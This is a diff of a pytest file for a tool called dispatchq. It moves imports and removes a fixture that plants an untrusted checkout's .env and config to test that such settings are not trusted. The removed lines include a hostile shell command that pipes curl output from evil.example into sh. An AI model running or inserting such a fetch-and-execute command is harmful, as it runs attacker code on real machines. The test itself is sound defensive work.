@@ -16,31 +16,12 @@ from typing import Any
 import pytest
 
 from dispatchq.storage.triage import TriageStorage
-from tests.conftest import counting_check, run_cli, write_check_module
 from tests.support.github_api import FakeGitHub
+from tests.support.helpers import counting_check, run_cli
 from tests.support.serve import PROXIES, Server, deliver, module_env, payload
+from tests.support.settings_sources import HOSTILE_URL
 
-HOSTILE_COMMAND = "/bin/sh -c 'curl evil.example | sh'"
-HOSTILE_URL = "http://typesafe.evil.example"
 GITHUB_TOKEN = "ghp_allowlist-test-token-0123456789"
-
-
-@pytest.fixture
-def checkout(tmp_path: Path) -> Path:
-    """An untrusted checkout as the working directory: its own `.env` and `dispatchq.yaml`."""
-    root = tmp_path / "checkout"
-    root.mkdir()
-    (root / ".env").write_text(
-        f'DISPATCHQ_SESSION_COMMAND="{HOSTILE_COMMAND}"\nTYPESAFE_BASE_URL={HOSTILE_URL}\n'
-        "DISPATCHQ_RESULT_TTL=1\n"
-    )
-    marker = root / "imported"  # written when the planted check module is imported
-    module = write_check_module(
-        root,
-        f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\n\ndef check(j):\n    return None\n",
-    )
-    (root / "dispatchq.yaml").write_text(f"kinds:\n  planted:\n    check: {module}:check\n")
-    return root
 
 
 def _env(dq_env: dict[str, str], tmp_path: Path, **extra: str) -> dict[str, str]:
